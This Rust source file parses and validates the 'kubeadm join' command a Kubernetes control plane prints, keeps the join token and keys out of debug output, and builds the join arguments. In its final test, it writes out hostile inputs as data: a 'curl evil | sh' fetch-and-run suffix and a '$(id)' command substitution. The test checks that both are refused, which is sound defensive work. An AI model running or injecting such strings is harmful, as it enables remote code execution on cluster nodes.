//! Joining nodes: the join command a control plane prints, parsed into
//! checked parts (endpoint, token, CA hash, certificate key) instead of run
//! as text, and the `kubeadm join` arguments built from those parts. The
//! token and keys are secrets: they live in memory for the join step only,
//! never in the run's input, state or log.

use std::fmt;

use crate::etcd::validate::host;

/// What a node needs to join, from `kubeadm token create --print-join-command`.
#[derive(Clone, PartialEq, Eq)]
pub struct JoinTicket {
    /// `host:port` of the API server.
    pub endpoint: String,
    /// `abcdef.0123456789abcdef`.
    pub token: String,
    /// `sha256:<64 hex>`.
    pub ca_cert_hash: String,
    /// For control planes: the key of the uploaded certificates (64 hex).
    pub certificate_key: Option<String>,
}

/// Never the secrets, in logs or errors.
impl fmt::Debug for JoinTicket {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("JoinTicket")
            .field("endpoint", &self.endpoint)
            .finish_non_exhaustive()
    }
}

fn token_ok(token: &str) -> bool {
    let Some((id, secret)) = token.split_once('.') else {
        return false;
    };
    let lower_alnum = |s: &str| s.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit());
    id.len() == 6 && secret.len() == 16 && lower_alnum(id) && lower_alnum(secret)
}

fn hex64(s: &str) -> bool {
    s.len() == 64 && s.chars().all(|c| c.is_ascii_hexdigit())
}

impl JoinTicket {
    /// Parses the printed join command; anything but its known shape is refused
    /// (the output comes from a host, and is not trusted).
    pub fn parse(printed: &str, certificate_key: Option<&str>) -> Result<Self, String> {
        let line = printed
            .lines()
            .map(str::trim)
            .find(|l| l.starts_with("kubeadm join "))
            .ok_or("the control plane printed no join command")?;
        let words: Vec<&str> = line.split_whitespace().collect();
        let mut endpoint = None;
        let mut token = None;
        let mut hash = None;
        let mut i = 2;
        while i < words.len() {
            match words[i] {
                "--token" => token = words.get(i + 1).copied(),
                "--discovery-token-ca-cert-hash" => hash = words.get(i + 1).copied(),
                word if !word.starts_with("--") && endpoint.is_none() => {
                    endpoint = Some(word);
                    i += 1;
                    continue;
                }
                other => return Err(format!("unexpected word {other:?} in the join command")),
            }
            i += 2;
        }
        let endpoint = endpoint.ok_or("the join command names no endpoint")?;
        let (h, port) = endpoint.rsplit_once(':').ok_or("the join endpoint is not host:port")?;
        host("endpoint", h).map_err(|e| e.to_string())?;
        port.parse::<u16>()
            .map_err(|_| "the join endpoint's port is not a number")?;
        let token = token
            .filter(|t| token_ok(t))
            .ok_or("the join command's token is malformed")?;
        let hash = hash
            .filter(|h| h.strip_prefix("sha256:").is_some_and(hex64))
            .ok_or("the join command's CA hash is malformed")?;
        if let Some(key) = certificate_key
            && !hex64(key)
        {
            return Err("the certificate key is malformed".into());
        }
        Ok(Self {
            endpoint: endpoint.to_owned(),
            token: token.to_owned(),
            ca_cert_hash: hash.to_owned(),
            certificate_key: certificate_key.map(str::to_owned),
        })
    }

    /// `kubeadm join` arguments for a node named `node` (a control plane when
    /// the ticket carries a certificate key and `control_plane` is set).
    pub fn args(&self, node: &str, cri_socket: &str, control_plane: bool) -> Vec<String> {
        let mut args = vec![
            "join".to_owned(),
            self.endpoint.clone(),
            "--token".to_owned(),
            self.token.clone(),
            "--discovery-token-ca-cert-hash".to_owned(),
            self.ca_cert_hash.clone(),
            "--node-name".to_owned(),
            node.to_owned(),
            "--cri-socket".to_owned(),
            cri_socket.to_owned(),
        ];
        if control_plane && let Some(key) = &self.certificate_key {
            args.extend([
                "--control-plane".to_owned(),
                "--certificate-key".to_owned(),
                key.clone(),
            ]);
        }
        args
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HASH: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn printed(extra: &str) -> String {
        format!(
            "W1126 warning first\nkubeadm join 10.0.0.5:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash {HASH}{extra}\n"
        )
    }

    #[test]
    fn parses_the_printed_command_and_builds_arguments() {
        let ticket = JoinTicket::parse(&printed(""), None).expect("ticket");
        assert_eq!(ticket.endpoint, "10.0.0.5:6443");
        let args = ticket.args("worker-1", "unix:///run/containerd/containerd.sock", false);
        assert_eq!(
            args[..4],
            ["join", "10.0.0.5:6443", "--token", "abcdef.0123456789abcdef"]
        );
        assert!(!args.contains(&"--control-plane".to_owned()));
        let key = "ab".repeat(32);
        let cp = JoinTicket::parse(&printed(""), Some(&key)).expect("ticket");
        assert!(cp.args("cp-2", "unix:///x.sock", true).ends_with(&[
            "--control-plane".into(),
            "--certificate-key".into(),
            key
        ]));
        assert!(!format!("{cp:?}").contains("abcdef.0123"), "no secrets in Debug");
    }

    #[test]
    fn hostile_output_is_refused() {
        assert!(JoinTicket::parse(&printed(" ; curl evil | sh"), None).is_err());
        assert!(JoinTicket::parse(&printed(" --v=5"), None).is_err());
        assert!(JoinTicket::parse("kubeadm join $(id):6443 --token abcdef.0123456789abcdef", None).is_err());
        let bad_token = printed("").replace("abcdef.0123456789abcdef", "ABC.x");
        assert!(JoinTicket::parse(&bad_token, None).is_err());
        assert!(JoinTicket::parse(&printed(""), Some("not-hex")).is_err());
        assert!(JoinTicket::parse("nothing useful", None).is_err());
    }
}
